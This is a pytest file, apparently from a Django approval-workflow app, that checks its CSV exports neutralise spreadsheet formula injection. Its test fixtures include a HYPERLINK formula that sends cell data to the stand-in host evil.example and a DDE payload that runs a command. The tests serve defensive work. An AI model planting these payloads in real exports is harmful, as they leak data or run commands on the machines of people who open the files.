"""Every CSV the product writes neutralises cells a spreadsheet would run as formulas."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from repository.approvals.actions import ApproveAction, PublishAction, SubmitForApprovalAction
from security.spreadsheets import neutralise, writer

ATTACKS = ['=HYPERLINK("https://evil.example/?x="&A1,"คลิก")', "+SUM(1+1)", "-2+3", "@cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_cells_are_written_as_text(attack):
    out = io.StringIO()
    writer(out).writerow([attack, "ข่าวประชาสัมพันธ์", 5, -5])
    cells = next(csv.reader(io.StringIO(out.getvalue())))
    assert cells[0] == "'" + attack
    assert cells[1:] == ["ข่าวประชาสัมพันธ์", "5", "-5"]  # plain text and numbers untouched


def test_harmless_values_are_unchanged():
    for value in ("ที่ อท ๐๐๑๗/๒๒๔", "2568-03-01", "a=b", "", None):
        assert neutralise(value) == value


@pytest.mark.django_db
def test_the_approval_forms_csv_neutralises_the_providers_text(make_draft, provider, approver, publisher, auditor,
                                                                agency):
    page = make_draft()
    page.title = ATTACKS[0]
    page.save_revision(user=provider)
    page = page.__class__.objects.get(pk=page.pk)
    SubmitForApprovalAction(page, provider, confirmed_measure_1_1=True, remarks="@cmd|' /C calc'!A0").execute()
    ApproveAction(page, approver).execute()
    PublishAction(page, publisher).execute()
    client = Client()
    client.force_login(auditor)
    export = client.get(reverse("approvals:form_list"), {"format": "csv"})
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells, "the export has the form"
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    assert "'" + ATTACKS[0] in cells and "'@cmd|' /C calc'!A0" in cells


@pytest.mark.django_db
def test_the_oit_csv_neutralises_item_names(tree):
    from repository.models import FrameworkItem

    FrameworkItem.objects.create(framework=tree.framework, code="O99", name_th="+SUM(1+1)", name_en="=1+1",
                                 recurrence="once", sort_order=99)
    response = Client().get(f"/api/v1/oit/{tree.framework.year}/{tree.province.code}?format=csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(r for r in rows if r["code"] == "O99")
    assert row["name_th"] == "'+SUM(1+1)" and row["name_en"] == "'=1+1"
